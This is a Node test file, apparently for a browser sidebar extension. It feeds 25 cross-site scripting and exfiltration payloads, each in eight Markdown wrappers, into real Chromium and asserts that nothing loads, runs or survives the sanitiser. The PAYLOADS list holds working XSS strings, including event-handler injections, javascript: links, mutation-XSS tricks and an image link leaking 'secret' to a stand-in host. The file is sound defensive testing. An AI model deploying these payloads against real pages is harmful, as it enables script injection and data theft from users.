// 25 answers of 200 hostile texts in a real Chromium: nothing is loaded, nothing runs, and what stands in the sidebar is of a few elements.
import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { ask, lastAnswer } from './browser.mjs';
import { openPaired } from './paired.mjs';

const AWAY = 'https://away.test';
const PAYLOADS = [
  '<img src="https://away.test/1.png" onerror="globalThis.hit=1">',
  '<script src="https://away.test/1.js"></script>',
  '<script>globalThis.hit=1</script>',
  '<svg onload="globalThis.hit=1"><image href="https://away.test/2.png"/></svg>',
  '<iframe src="https://away.test/3" srcdoc="<script>parent.hit=1</script>"></iframe>',
  '<link rel="stylesheet" href="https://away.test/4.css"><style>@import "https://away.test/5.css";*{background:url(https://away.test/6.png)}</style>',
  '<a href="javascript:globalThis.hit=1" ping="https://away.test/7">go</a>',
  '<object data="https://away.test/8"></object><embed src="https://away.test/9">',
  '<video autoplay poster="https://away.test/10.png" src="https://away.test/11.mp4"></video>',
  '<form action="https://away.test/12"><button autofocus onfocus="globalThis.hit=1">Send</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://away.test/13"><base href="https://away.test/">',
  '![picture](https://away.test/14.png?text=secret)',
  '![picture][r] [go][r]\n\n[r]: https://away.test/15.png "t"',
  '[go](javascript:globalThis.hit=1) [go](data:text/html,<script>globalThis.hit=1</script>)',
  '<https://away.test/16> https://away.test/17 www.away.test',
  '[![nested](https://away.test/18.png)](https://away.test/19)',
  '<math><mtext><mglyph><style><img src=x onerror="globalThis.hit=1">',
  '<details open ontoggle="globalThis.hit=1"><summary>more</summary></details>',
  '<!--><img src=x onerror="globalThis.hit=1">--> <![CDATA[<img src=x onerror="globalThis.hit=1">]]>',
  '&lt;img src=x onerror="globalThis.hit=1"&gt; &#60;script&#62;globalThis.hit=1&#60;/script&#62;',
  '<template><slot></slot></template><retinue-panel onclick="globalThis.hit=1">x</retinue-panel>',
  '"<img src=x onerror=globalThis.hit=1>" [1] "<script>globalThis.hit=1</script>" [999999]',
  '[1](https://away.test/20) [[2]](javascript:globalThis.hit=1)',
  '\u202e<img src=x onerror="globalThis.hit=1">\u2066 \ufeff\u0000<script>globalThis.hit=1</script>',
  'Verdict: <img src=x onerror="globalThis.hit=1">\nNot legal advice.',
];
const WRAPPERS = [
  (text) => text,
  (text) => `- ${text}\n- two`,
  (text) => `> ${text}`,
  (text) => `| a | b |\n| --- | --- |\n| ${text.replaceAll('\n', ' ')} | c |`,
  (text) => `**${text}** ~~${text}~~`,
  (text) => `\`\`\`html\n${text}\n\`\`\`\n${text}`,
  (text) => `# ${text}\n\n1. ${text}`,
  (text) => `Dear office,\n\n${text}\n\n${text}`,
];
const ALLOWED = 'a article b bdi blockquote br button caption cite code dd del details div dl dt em figure footer h1 h2 h3 h4 h5 h6 header hr i li mark nav ol p path pre q s section small span strong sub summary sup svg table tbody td th thead time tr ul'.split(' ');

describe('hostile answers', () => {
  let scene, page, frame, folder;
  const outside = [];

  before(async () => {
    folder = await mkdtemp(join(tmpdir(), 'retinue-hostile-'));
    const answers = {};
    PAYLOADS.forEach((payload, n) => (answers[`Question ${n}.`] = WRAPPERS.map((wrap) => wrap(payload)).join('\n\n')));
    await writeFile(join(folder, 'hostile.json'), JSON.stringify({ context: 20_000, answers }));
    scene = await openPaired({ script: join(folder, 'hostile.json'), path: 'ferry.html' });
    ({ page, frame } = scene);
    scene.browser.context.on('request', (request) => request.url().includes('away.test') && outside.push(request.url()));
    page.on('dialog', (dialog) => outside.push(`a dialog: ${dialog.message()}`));
  });
  after(async () => {
    await scene?.close();
    await rm(folder, { recursive: true, force: true });
  });

  test('there are 200 of them', () => assert.equal(PAYLOADS.length * WRAPPERS.length, 200));

  PAYLOADS.forEach((payload, n) => {
    test(`nothing of ${JSON.stringify(payload.slice(0, 40))} is loaded or run, in whatever it stands`, async () => {
      await ask(frame, `Question ${n}.`);
      await lastAnswer(frame);
      const seen = await frame.locator('.turn').last().evaluate((turn, allowed) => {
        const elements = [...turn.querySelectorAll('*')];
        const strange = elements.filter((one) => !allowed.includes(one.tagName.toLowerCase())).map((one) => one.outerHTML);
        const armed = elements.flatMap((one) => [...one.attributes].filter(({ name }) => /^on|^(src|srcset|action|ping|poster|data|formaction)$/.test(name)).map(({ name }) => `${one.tagName} ${name}`));
        const links = [...turn.querySelectorAll('[href]')].map((one) => one.getAttribute('href'));
        return { strange, armed, links, hit: globalThis.hit ?? null };
      }, ALLOWED);
      assert.deepEqual(seen, { strange: [], armed: [], links: [], hit: null });
      await frame.getByRole('button', { name: 'New conversation' }).click();
      await frame.locator('.turn').waitFor({ state: 'detached' });
      assert.deepEqual(outside, []);
      assert.ok(frame.url().includes('/panel.html'), 'the sidebar went elsewhere');
    });
  });

  test('what would have been loaded is seen here', async () => {
    await page.evaluate((url) => void (new Image().src = url), `${AWAY}/seen.png`);
    await page.waitForTimeout(500);
    assert.deepEqual(outside, [`${AWAY}/seen.png`]);
    assert.equal(await page.evaluate(() => globalThis.hit ?? null), null);
  });
});
